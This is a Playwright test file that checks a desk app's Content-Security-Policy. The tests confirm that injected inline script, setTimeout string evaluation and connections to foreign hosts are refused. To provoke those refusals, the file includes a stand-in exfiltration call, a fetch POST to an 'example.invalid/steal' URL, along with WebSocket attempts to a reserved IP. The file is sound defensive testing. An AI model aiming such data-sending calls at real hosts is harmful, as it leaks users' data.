import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { expect, test } from '@playwright/test';

/**
 * The Content-Security-Policy is in force in the served desk: an injected
 * inline script does not run, string-to-code is refused, and nothing may be
 * fetched from or sent to another origin. Each refusal is observed as the
 * browser's own securitypolicyviolation event.
 */
test('the desk page refuses inline script, eval and foreign connections', async ({ page }) => {
  const response = await page.goto('/?lang=en');
  expect(response?.headers()['content-security-policy']).toContain("script-src 'self'");
  await expect(page.getByTestId('auth-sandbox')).toBeVisible({ timeout: 30_000 });

  const outcome = await page.evaluate(async () => {
    const violations: string[] = [];
    document.addEventListener('securitypolicyviolation', (event) => {
      violations.push(`${event.effectiveDirective} ${event.blockedURI}`);
    });
    const marker = window as unknown as { injectedRan?: boolean; timerRan?: boolean };
    const script = document.createElement('script');
    script.textContent = 'window.injectedRan = true;';
    document.head.append(script);

    // A string handed to setTimeout is compiled like eval; the CSP must refuse it.
    (setTimeout as unknown as (code: string, ms: number) => number)('window.timerRan = true;', 0);

    let fetched = 'not refused';
    try {
      await fetch('http://example.invalid/steal', { method: 'POST', body: 'x' });
      fetched = 'sent';
    } catch (error) {
      fetched = `refused: ${(error as Error).name}`;
    }
    const socket = new WebSocket('ws://192.0.2.1:9/');
    await new Promise((resolve) => setTimeout(resolve, 500));
    socket.close();
    return {
      injectedRan: marker.injectedRan === true,
      timerRan: marker.timerRan === true,
      fetched,
      violations,
    };
  });

  expect(outcome.injectedRan).toBe(false);
  expect(outcome.timerRan).toBe(false);
  expect(outcome.fetched).toMatch(/^refused/);
  expect(outcome.violations).toEqual(
    expect.arrayContaining([
      expect.stringMatching(/^script-src-elem inline/),
      expect.stringMatching(/^script-src eval/),
      expect.stringMatching(/^connect-src http:\/\/example\.invalid/),
      expect.stringMatching(/^connect-src ws:\/\/192\.0\.2\.1/),
    ]),
  );
});

test('the page as the Electron window loads it (file://, its own meta policy only) opens no socket to another host', async ({
  page,
}) => {
  // No bridge header here: what holds is renderer/index.html's meta tag, as in the desk window.
  await page.goto(pathToFileURL(join(process.cwd(), 'out/renderer/index.html')).href);
  const violations = await page.evaluate(async () => {
    const seen: string[] = [];
    document.addEventListener('securitypolicyviolation', (event) => {
      seen.push(`${event.effectiveDirective} ${event.blockedURI}`);
    });
    for (const url of ['ws://192.0.2.1:9/', 'wss://192.0.2.1:9/']) new WebSocket(url).close();
    await new Promise((resolve) => setTimeout(resolve, 500));
    return seen;
  });
  expect(violations).toEqual(
    expect.arrayContaining([
      expect.stringMatching(/^connect-src ws:\/\/192\.0\.2\.1/),
      expect.stringMatching(/^connect-src wss:\/\/192\.0\.2\.1/),
    ]),
  );
});

test('the demo fleet is labelled as a sandbox where nobody signs in', async ({ page }) => {
  await page.goto('/?lang=en');
  await expect(page.getByTestId('auth-sandbox')).toHaveText('Demo sandbox · no sign-in');
  await expect(page.getByTestId('session-role')).toHaveAttribute('data-role', 'admin');
});
